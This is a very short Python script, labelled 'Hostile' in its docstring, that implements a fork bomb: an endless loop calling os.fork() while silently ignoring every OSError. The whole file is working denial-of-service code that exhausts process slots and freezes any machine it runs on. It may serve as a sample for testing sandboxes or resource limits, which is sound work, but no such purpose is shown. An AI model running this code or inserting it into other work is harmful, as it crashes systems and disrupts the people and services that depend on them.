"""Hostile: forks without end and ignores every failure."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
